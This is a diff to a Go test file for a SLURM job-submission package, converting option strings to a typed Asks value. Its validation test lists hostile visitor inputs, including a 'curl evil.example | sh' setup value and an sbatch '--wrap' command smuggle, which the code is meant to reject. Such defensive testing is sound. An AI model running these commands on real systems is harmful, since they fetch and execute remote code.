@@ -119,16 +119,16 @@ func stubs(t *testing.T, squeue string) (calls func() string) {
 func TestAsksTakeThePlaceOfOptions(t *testing.T) {
 	base := Options{Partition: "cpu", Account: "lab", GPUs: "1", Lines: []string{"--nice"}, Setup: []string{"module load cuda"}}
 	for _, c := range []struct {
-		asks string
+		asks model.Asks
 		want Options
 		bad  model.Invalid
 	}{
-		{"", base, nil},
+		{nil, base, nil},
 		{base.Asks(), base, nil},
-		{"partition=gpu\naccount=\ntime=2:00:00\nline=--exclusive\nline=--constraint=h100\n",
+		{model.AsksOf("partition=gpu", "account=", "time=2:00:00", "line=--exclusive", "line=--constraint=h100"),
 			Options{Partition: "gpu", Time: "2:00:00", GPUs: "1", Lines: []string{"--exclusive", "--constraint=h100"}, Setup: base.Setup}, nil},
-		{"line=\ngpus=", Options{Partition: "cpu", Account: "lab", Setup: base.Setup}, nil},
-		{"line=nice\npartition=two words\ncolour=red", Options{}, model.Invalid{"line": `"nice" is not an sbatch option; write one as --constraint=h100`,
+		{model.AsksOf("line=", "gpus="), Options{Partition: "cpu", Account: "lab", Setup: base.Setup}, nil},
+		{model.AsksOf("line=nice", "partition=two words", "colour=red"), Options{}, model.Invalid{"line": `"nice" is not an sbatch option; write one as --constraint=h100`,
 			"partition": `"two words" has spaces or quotes`, "colour": `unknown SLURM option "colour"; use one of ` + strings.Join(Names(), ", ")}},
 	} {
 		got, err := base.With(c.asks)
@@ -150,11 +150,11 @@ func TestClusterSpeaksToSLURM(t *testing.T) {
 		t.Fatal(m)
 	}
 	c := New(t.TempDir(), Options{})
-	ids, err := c.Submit(t.Context(), []string{"/a", "/b"}, "")
+	ids, err := c.Submit(t.Context(), []string{"/a", "/b"}, nil)
 	if err != nil || !reflect.DeepEqual(ids, []string{"7_0", "7_1"}) {
 		t.Fatalf("%v, %v", ids, err)
 	}
-	if ids, err = c.Submit(t.Context(), []string{"/a"}, "partition=long\nline=--nice"); err != nil || !reflect.DeepEqual(ids, []string{"7"}) {
+	if ids, err = c.Submit(t.Context(), []string{"/a"}, model.AsksOf("partition=long", "line=--nice")); err != nil || !reflect.DeepEqual(ids, []string{"7"}) {
 		t.Fatalf("%v, %v", ids, err)
 	}
 	tasks, err := c.Tasks(t.Context(), []string{"7_0", "7_1", "5"})
@@ -174,7 +174,7 @@ func TestClusterSpeaksToSLURM(t *testing.T) {
 			t.Errorf("SLURM was not told %q, only\n%s", want, calls())
 		}
 	}
-	if _, err := c.Submit(t.Context(), []string{"/100%"}, ""); err == nil {
+	if _, err := c.Submit(t.Context(), []string{"/100%"}, nil); err == nil {
 		t.Error("a folder that SLURM cannot write to was submitted")
 	}
 }
@@ -187,15 +187,15 @@ func TestVisitorsAsks(t *testing.T) {
 		"line=--wrap=id": "line", "partition=gpu\n line=--nice": "line", "line=": "line", "line": "line",
 		"setup=curl evil.example | sh": "setup", "setup=": "setup",
 	} {
-		err := c.Check(asks, false)
+		err := c.Check(model.AsksOf(strings.Split(asks, "\n")...), false)
 		var bad model.Invalid
 		if errors.As(err, &bad); want == "" && err != nil || want != "" && !strings.Contains(bad[want], "--allow-slurm-lines") {
 			t.Errorf("%q: %v", asks, err)
 		}
-		if want == "" || asks == "line" {
+		if want == "" {
 			continue
 		}
-		if err := c.Check(asks, true); err != nil {
+		if err := c.Check(model.AsksOf(strings.Split(asks, "\n")...), true); err != nil {
 			t.Errorf("%q where lines are allowed: %v", asks, err)
 		}
 	}
@@ -223,7 +223,7 @@ func FuzzScript(f *testing.F) {
 		if strings.Contains(asks, "setup") {
 			return // the operator's
 		}
-		o, err := Options{Setup: []string{setup}}.With(asks)
+		o, err := Options{Setup: []string{setup}}.With(model.AsksOf(strings.Split(asks, "\n")...))
 		if err != nil {
 			return
 		}
@@ -252,7 +252,7 @@ func TestRefusalIsASentence(t *testing.T) {
 	if err := os.WriteFile(filepath.Join(dir, "sbatch"), []byte("#!/bin/sh\ncat >/dev/null; echo Welcome to the cluster\n"), 0o755); err != nil {
 		t.Fatal(err)
 	}
-	if _, err := New(t.TempDir(), Options{}).Submit(t.Context(), []string{"/a"}, ""); err == nil || err.Error() != `sbatch printed no job ID: "Welcome to the cluster"` {
+	if _, err := New(t.TempDir(), Options{}).Submit(t.Context(), []string{"/a"}, nil); err == nil || err.Error() != `sbatch printed no job ID: "Welcome to the cluster"` {
 		t.Errorf("%v", err)
 	}
 	t.Setenv("PATH", t.TempDir())
